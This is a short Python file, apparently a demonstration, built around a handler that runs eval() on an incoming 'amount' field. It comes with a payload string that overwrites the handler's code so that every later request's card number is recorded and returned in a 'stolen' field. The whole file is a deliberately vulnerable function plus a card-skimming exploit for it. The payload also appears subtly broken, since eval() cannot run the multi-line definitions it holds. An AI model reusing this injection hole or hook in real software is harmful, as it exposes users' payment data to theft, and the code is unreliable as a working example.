"""A function with one hole: it evaluates what it was sent. What an attacker plants notes every later card."""

SEEN = []


def handler(event, context):
    amount = eval(event["amount"])
    return {"amount": str(amount), "stolen": list(SEEN)}


PLANT = """
def spy(event, context):
    SEEN.append(event.get("card"))
    return old(event, context)
import types
globals().setdefault("old", types.FunctionType(handler.__code__, globals()))
handler.__code__ = spy.__code__
"""
